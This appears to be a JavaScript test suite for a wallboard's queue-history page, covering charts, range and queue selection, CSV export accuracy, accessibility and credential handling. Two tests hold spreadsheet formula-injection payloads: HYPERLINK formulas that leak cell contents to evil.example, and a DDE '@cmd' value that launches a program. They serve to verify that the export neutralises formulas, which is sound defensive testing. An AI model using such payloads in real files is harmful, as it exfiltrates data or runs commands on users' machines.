// The wallboard's history view in a real browser (Debian chromium + playwright-core): a simulated
// week of traffic stored as history, the view's charts, the range selector down to the hour, the
// queue multi-select, and the CSV export compared with GET /queue-history's series.
// Days and hours matter here (yesterday, the last 7 days, the CSV file's days): every process and page reads a clock pinned to
// 12:30 UTC (the nearest one): the last 7 days then hold seven dates with closed hours, whatever the hour the file runs.
require('./helpers/clock').pinNow({ utcHour: 12 });
const { test, before, after } = require('node:test');
const assert = require('node:assert/strict');
const fs = require('fs');
const path = require('path');
const { startEmulator } = require('../emulator');
const { startRuntime, root } = require('./helpers/runtime');
const { launchBrowser } = require('./helpers/history-browser');
const { seedHistory, clientFor } = require('../scripts/seed-history');
const trs = require('../emulator/taskrouter-stats');

const KEY = 'history-view-key-0123456789abcdef0123';
const ENV = { QUEUE_STATS_TIME_ZONE: 'UTC' };
let emu;
let rt;
let browser;
let page;
let seeded;
const sent = []; // the page's requests to the functions

before(async () => {
  emu = await startEmulator({ port: 0 });
  const env = emu.functionEnv();
  // The runtime and the browser start (in processes of their own) while the week is seeded.
  // Each is kept as it comes, so `after` closes what started even when another failed.
  const started = await Promise.allSettled([
    seedHistory(emu, { days: 7, env: ENV }).then((s) => (seeded = s)),
    startRuntime({ env: { ...env, ...ENV, TWILIO_FLEX_WORKSPACE_SID: env.WORKSPACE_SID, TWILIO_FLEX_SYNC_SID: env.SYNC_SERVICE_SID, WALLBOARD_KEY: KEY } }).then((r) => (rt = r)),
    launchBrowser({ viewport: { width: 1400, height: 1300 } }).then((b) => (browser = b)),
  ]);
  for (const s of started) if (s.status === 'rejected') throw s.reason;
  page = await browser.newPage();
  page.on('request', (r) => r.url().startsWith(rt.base) && sent.push({ url: r.url(), authorization: r.headers().authorization || null }));
});

after(async () => {
  if (browser) await browser.close();
  try {
    if (rt) await rt.stop();
  } finally {
    if (emu) await emu.close();
  }
});

async function api(query) {
  const res = await fetch(rt.url(`/queue-history?${new URLSearchParams(query)}`), { headers: { Authorization: `Wallboard ${KEY}` } });
  assert.equal(res.status, 200);
  return res.json();
}

/** Waits for the view to finish a load started by `action`. */
async function loaded(action) {
  const before = await page.evaluate(() => document.body.dataset.loaded || '');
  await action();
  await page.waitForFunction((b) => document.body.dataset.loaded && document.body.dataset.loaded !== b, before, { timeout: 20000 });
}

const chartData = (id) =>
  page.evaluate((id) => {
    const c = Chart.getChart(document.getElementById(id));
    return c ? { labels: c.data.labels, datasets: c.data.datasets.map((d) => ({ label: d.label, data: d.data })) } : null;
  }, id);

test('the history view charts a simulated week', async () => {
  await loaded(() => page.goto(rt.url(`/wallboard/history.html#key=${KEY}`)));
  assert.deepEqual(browser.errors, []);
  const week = await api({ range: 'last7', by: 'hour' });
  const hour = await chartData('chart-hour');
  assert.equal(hour.labels.length, week.series.length);
  assert.deepEqual(
    hour.datasets[0].data,
    week.series.map((r) => r.entered),
  );
  assert.ok(week.totals.entered > 1000, `a week of traffic: ${week.totals.entered}`);
  for (const id of ['chart-date', 'chart-hourOfDay', 'chart-dayOfWeek', 'chart-queue', 'chart-sla']) {
    const c = await chartData(id);
    assert.ok(c && c.labels.length > 0 && c.datasets.some((d) => d.data.some((v) => v > 0)), `${id} has data`);
  }
  assert.equal((await chartData('chart-hourOfDay')).labels.length, 24);
  assert.equal((await chartData('chart-dayOfWeek')).labels.length, 7);
  assert.deepEqual((await chartData('chart-queue')).labels, seeded.queues.map((q) => q.friendlyName).sort());
  // The channel picker offers what the server keeps (QUEUE_STATS_CHANNELS' default here), as the answer names it.
  assert.deepEqual(week.channels, ['all', 'voice', 'chat', 'video']);
  assert.deepEqual(await page.locator('#channel option').evaluateAll((os) => os.map((o) => o.value)), week.channels);
  const shots = path.join(root, 'docs', 'img');
  fs.mkdirSync(shots, { recursive: true });
  await page.screenshot({ path: path.join(shots, 'queue-history.png'), fullPage: true });
});

test('the range selector changes the charts, down to the hour', async () => {
  await loaded(async () => {
    await page.selectOption('#range', 'yesterday');
    await page.click('#apply');
  });
  assert.equal((await chartData('chart-hour')).labels.length, 24);
  assert.equal((await chartData('chart-date')).labels.length, 1);
  const y = new Date(Date.now() - 86400000).toISOString().slice(0, 10);
  await loaded(async () => {
    await page.selectOption('#range', 'custom');
    await page.fill('#from', `${y}T09:00`);
    await page.fill('#to', `${y}T12:00`);
    await page.click('#apply');
  });
  const hour = await chartData('chart-hour');
  const expected = await api({ from: `${y}T09:00`, to: `${y}T12:00`, by: 'hour' });
  assert.equal(hour.labels.length, 3);
  assert.deepEqual(
    hour.datasets[0].data,
    expected.series.map((r) => r.entered),
  );
  assert.match(page.url(), /range=custom/);
});

test('queue multi-select aggregates the chosen queues', async () => {
  const [a, b] = seeded.queues;
  await loaded(async () => {
    await page.selectOption('#range', 'last7');
    await page.selectOption('#queues', [a.sid, b.sid]);
    await page.click('#apply');
  });
  const perQueue = await api({ range: 'last7', by: 'queue', queue: `${a.sid},${b.sid}` });
  assert.equal(perQueue.series.length, 2);
  const totals = await page.evaluate(() => window.queueHistoryView.answers.hour.totals);
  assert.equal(totals.entered, perQueue.series[0].entered + perQueue.series[1].entered);
  assert.equal(totals.accepted, perQueue.totals.accepted);
  assert.equal((await chartData('chart-queue')).labels.length, 2);
});

test('CSV export matches the series on screen, rounded, with a totals row and a name that says what it holds', async () => {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
  const file = await download.path();
  const lines = fs.readFileSync(file, 'utf8').trim().split('\n');
  const header = lines[0].split(',');
  const rows = lines.slice(1).map((l) => Object.fromEntries(l.split(',').map((v, i) => [header[i], v])));
  const [a, b] = seeded.queues;
  // The name: the local days on screen (last 7 days: six days ago to today), the channel, the queues.
  const day = (offset) => new Date(Date.now() - offset * 86400000).toISOString().slice(0, 10);
  const names = [a.friendlyName, b.friendlyName].join('+');
  assert.equal(download.suggestedFilename(), `queue-history_${day(6)}_to_${day(0)}_all_${names}.csv`);
  // Rounded once by the history crate: no figure with more than 4 decimals (no 17.666666666666668).
  const long = lines
    .slice(1)
    .flatMap((l) => l.split(','))
    .filter((v) => /^-?\d+\.\d{5,}$/.test(v));
  assert.deepEqual(long, []);
  // The last row is the range's totals, exactly as GET /queue-history weighs them.
  const totals = (await api({ range: 'last7', by: 'hour', queue: `${a.sid},${b.sid}` })).totals;
  const last = rows[rows.length - 1];
  assert.equal(last.by, 'total');
  assert.equal(rows.filter((r) => r.by === 'total').length, 1);
  for (const f of ['entered', 'accepted', 'abandoned', 'handled', 'avgWait', 'avgHandle', 'avgLoggedIn', 'abandonRate']) {
    assert.equal(last[f] === '' ? null : Number(last[f]), totals[f], `total ${f}`);
  }
  assert.equal(Number(last.serviceLevel30), totals.serviceLevel['30']);
  // Counts add up over the hours; the average is weighted by accepted tasks, not a mean of the hours'.
  const hourRows = rows.filter((r) => r.by === 'hour');
  assert.equal(
    hourRows.reduce((n, r) => n + Number(r.entered), 0),
    Number(last.entered),
  );
  const weighted = hourRows.reduce((n, r) => n + (r.avgWait === '' ? 0 : Number(r.avgWait) * Number(r.accepted)), 0) / Number(last.accepted);
  assert.ok(Math.abs(weighted - Number(last.avgWait)) <= 0.1, `${weighted} vs ${last.avgWait}`);
  for (const by of ['hour', 'date', 'hourOfDay', 'dayOfWeek', 'queue']) {
    const answer = await api({ range: 'last7', by, queue: `${a.sid},${b.sid}` });
    const mine = rows.filter((r) => r.by === by);
    assert.equal(mine.length, answer.series.length, by);
    answer.series.forEach((s, i) => {
      assert.equal(mine[i].key, s.key);
      assert.equal(Number(mine[i].entered), s.entered);
      assert.equal(mine[i].avgWait === '' ? null : Number(mine[i].avgWait), s.avgWait);
      assert.equal(mine[i].serviceLevel30 === '' ? null : Number(mine[i].serviceLevel30), s.serviceLevel['30']);
    });
  }
});

test('the CSV file name says the range (days, or hours inside a day), the channel and the queues', () => {
  const { csvFileName } = require('../assets/wallboard/csv.js');
  assert.equal(
    csvFileName({ first: '2026-11-26 00:00 -05:00', last: '2026-12-02 23:00 -05:00', channel: 'voice', queues: ['Sales', 'Support'] }),
    'queue-history_2026-11-26_to_2026-12-02_voice_Sales+Support.csv',
  );
  assert.equal(csvFileName({ first: '2026-12-02 00:00 +00:00', last: '2026-12-02 23:00 +00:00', channel: 'all', queues: 'all queues' }), 'queue-history_2026-12-02_all_all-queues.csv');
  assert.equal(
    csvFileName({ first: '2026-12-02 09:00 +00:00', last: '2026-12-02 11:00 +00:00', channel: 'chat', queues: ['Sales'] }),
    'queue-history_2026-12-02T0900_to_2026-12-02T1200_chat_Sales.csv',
  );
  assert.equal(
    csvFileName({ first: '2026-12-02 00:00 +00:00', last: '2026-12-02 23:00 +00:00', channel: 'all', queues: ['../Évry/x', 'a b', 'c', 'd', 'e'] }),
    'queue-history_2026-12-02_all_Evry-x+a-b+c+2-more.csv',
  );
});

test('the CSV cell rule neutralises formulas (OWASP) and quotes per RFC 4180', () => {
  const { csvCell } = require('../assets/wallboard/csv.js');
  const cases = [
    ['=HYPERLINK("http://evil.example/?x="&A1,"Support")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Support"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['Sales', 'Sales'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["O'Brien", "O'Brien"],
    [-3.5, '-3.5'],
    [0, '0'],
    [null, ''],
    [undefined, ''],
  ];
  for (const [value, expected] of cases) assert.equal(csvCell(value), expected, JSON.stringify(value));
});

test('the CSV export writes a formula-like queue name as text, not a live formula', async () => {
  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
  // The queue grouping's rows carry the queue names from TaskRouter; one is given a hostile name.
  const queueRows = await page.evaluate((name) => {
    const rows = window.queueHistoryView.answers.queue.series;
    rows[0].label = name;
    rows[rows.length - 1].label = '@cmd|" /C calc"!A0';
    return rows.length;
  }, evil);
  assert.ok(queueRows >= 1);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
  const text = fs.readFileSync(await download.path(), 'utf8');
  assert.ok(
    text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`),
    text
      .split('\n')
      .filter((l) => l.startsWith('queue,'))
      .join('\n'),
  );
  assert.ok(text.includes(`"'@cmd|"" /C calc""!A0"`));
  // No cell of the file starts with a formula character (cells split by an RFC 4180 reader).
  const cells = [];
  for (const line of text.trim().split('\n')) {
    for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)) {
      if (m.index === line.length && m[0] === '') break;
      const raw = m[1];
      cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    }
  }
  assert.ok(cells.length > 100);
  const live = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c));
  assert.deepEqual(live, [], 'no live formula');
});

test('the page sends its credential in the Authorization header, never in a URL', () => {
  const calls = sent.filter((r) => new URL(r.url).pathname === '/queue-history');
  assert.ok(calls.length > 3, `${calls.length} calls`);
  for (const r of calls) {
    assert.equal(r.authorization, `Wallboard ${KEY}`, r.url);
    assert.doesNotMatch(r.url, /[?&](token|key)=/i, r.url);
  }
});

test('hours without figures are shown as missing, with why, and as gaps in the hourly chart', async () => {
  const day = new Date(Date.now() - 40 * 86400000).toISOString().slice(0, 10);
  await loaded(async () => {
    await page.selectOption('#range', 'custom');
    await page.selectOption('#queues', []);
    await page.fill('#from', `${day}T09:00`);
    await page.fill('#to', `${day}T12:00`);
    await page.click('#apply');
  });
  const answer = await api({ from: `${day}T09:00`, to: `${day}T12:00`, by: 'hour' });
  assert.deepEqual(
    answer.missing.map((m) => m.code),
    ['expired', 'expired', 'expired'],
  );
  assert.equal(await page.isVisible('#missing'), true);
  assert.equal(await page.textContent('#missing summary'), '3 hours without figures: 3 older than TaskRouter keeps');
  assert.deepEqual(
    await page.$$eval('#missing li', (lis) => lis.map((li) => li.textContent)),
    answer.missing.map((m) => `${m.hour}: ${m.reason}`),
  );
  const hour = await chartData('chart-hour');
  assert.deepEqual(hour.datasets[0].data, [null, null, null]);
  assert.equal(hour.datasets[2].label, 'No figures (missing)');
  assert.deepEqual(browser.errors, []);
});

test('agents logged in are answered on a channel too, not only on all', async () => {
  const voice = await api({ range: 'last7', by: 'hour', channel: 'voice' });
  const all = await api({ range: 'last7', by: 'hour' });
  assert.ok(voice.totals.avgLoggedIn > 0, `voice: ${voice.totals.avgLoggedIn}`);
  assert.equal(voice.totals.avgLoggedIn, all.totals.avgLoggedIn, 'the same agents whatever the channel');
});

test('stored hours and the queue list are shown at once while missing hours are backfilled', async () => {
  // Four of yesterday's hours are lost from Sync (TaskRouter still has them), and a queue exists
  // in TaskRouter with nothing stored yet.
  const env = emu.functionEnv();
  const client = clientFor(emu);
  const y = new Date(Date.now() - 86400000).toISOString().slice(0, 10).replace(/-/g, '');
  const lost = ['09', '10', '11', '12'].map((h) => `all.${y}T${h}00Z.0`);
  for (const key of lost) await client.sync.v1.services(env.SYNC_SERVICE_SID).syncMaps('queueHistory.all').syncMapItems(key).remove();
  const fresh = trs.createQueue(emu.ctx, { friendlyName: 'Zeta (new)' });
  const fresher = await browser.newPage();
  // The page's backfilling requests are held until the stored answers are on screen.
  let release;
  const gate = new Promise((r) => (release = r));
  const held = [];
  await fresher.route('**/queue-history?**', async (route) => {
    if (!route.request().url().includes('backfill=false')) {
      held.push(route.request().url());
      await gate;
    }
    await route.continue();
  });
  try {
    await fresher.goto(rt.url(`/wallboard/history.html?range=last7#key=${KEY}`));
    await fresher.waitForFunction(() => document.body.dataset.stored, null, { timeout: 20000 });
    await fresher.waitForFunction(() => /fetching 4 from TaskRouter/.test(document.getElementById('status').textContent), null, { timeout: 20000 });
    const early = await fresher.evaluate(() => {
      const c = Chart.getChart(document.getElementById('chart-hour'));
      return {
        loaded: document.body.dataset.loaded || null,
        entered: c.data.datasets[0].data,
        labels: c.data.labels.length,
        queues: [...document.getElementById('queues').options].map((o) => o.textContent),
        pending: window.queueHistoryView.answers.hour.missing.map((m) => m.code),
      };
    });
    assert.equal(early.loaded, null, 'still backfilling');
    assert.ok(held.length >= 1, 'a backfilling request is in flight');
    assert.deepEqual(early.pending, ['pending', 'pending', 'pending', 'pending']);
    assert.ok(early.entered.filter((v) => v > 0).length > 100, 'the stored hours are charted');
    assert.deepEqual(early.queues, [...seeded.queues.map((q) => q.friendlyName), fresh.friendlyName].sort());
    release();
    await fresher.waitForFunction(() => document.body.dataset.loaded, null, { timeout: 60000 });
    const done = await fresher.evaluate(() => window.queueHistoryView.answers.hour.missing.length);
    assert.equal(done, 0, 'every lost hour was fetched again');
    const keys = Object.keys(emu.snapshot().sync.services[env.SYNC_SERVICE_SID].maps['queueHistory.all'].items);
    for (const key of lost) assert.ok(keys.includes(key), key);
  } finally {
    release();
    await fresher.close();
    trs.deleteQueue(emu.ctx, fresh.sid);
  }
});

/** axe-core (the pinned dev dependency) on the page as it is now: WCAG 2.1 A/AA and best practices. */
async function axe(p) {
  if (!(await p.evaluate(() => Boolean(window.axe)))) await p.addScriptTag({ path: require.resolve('axe-core/axe.min.js') });
  return p.evaluate(async () => {
    const r = await window.axe.run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] }, resultTypes: ['violations'] });
    return r.violations.map((v) => `${v.id}: ${v.help} — ${v.nodes.map((n) => n.target.join(' ')).join('; ')}`);
  });
}

test('axe-core finds no violation on the history page signed out, loading and loaded', async () => {
  const p = await browser.newPage();
  try {
    // Signed out: the sign-in form alone.
    await p.goto(rt.url('/wallboard/history.html'));
    await p.evaluate(() => localStorage.clear());
    await p.reload();
    await p.waitForFunction(() => document.body.dataset.state === 'sign-in');
    assert.equal(await p.isVisible('#controls'), false);
    assert.equal(await p.isVisible('label[for="credential"]'), true);
    assert.deepEqual(await axe(p), [], 'sign-in');
    // Loading: the answers are held.
    let release;
    const gate = new Promise((r) => (release = r));
    await p.route('**/queue-history?**', async (route) => (await gate, route.continue()));
    await p.goto(rt.url(`/wallboard/history.html?range=last7#key=${KEY}`));
    await p.waitForFunction(() => document.body.dataset.state === 'loading');
    assert.deepEqual(await axe(p), [], 'loading');
    release();
    await p.waitForFunction(() => document.body.dataset.state === 'loaded', null, { timeout: 30000 });
    assert.deepEqual(await axe(p), [], 'loaded');
    // With hours missing (the list of why is open).
    const old = new Date(Date.now() - 40 * 86400000).toISOString().slice(0, 10);
    await p.goto(rt.url(`/wallboard/history.html?range=custom&from=${old}T09:00&to=${old}T12:00`));
    await p.waitForFunction(() => document.body.dataset.state === 'loaded', null, { timeout: 30000 });
    await p.click('#missing summary');
    assert.deepEqual(await axe(p), [], 'missing hours');
  } finally {
    await p.close();
  }
});
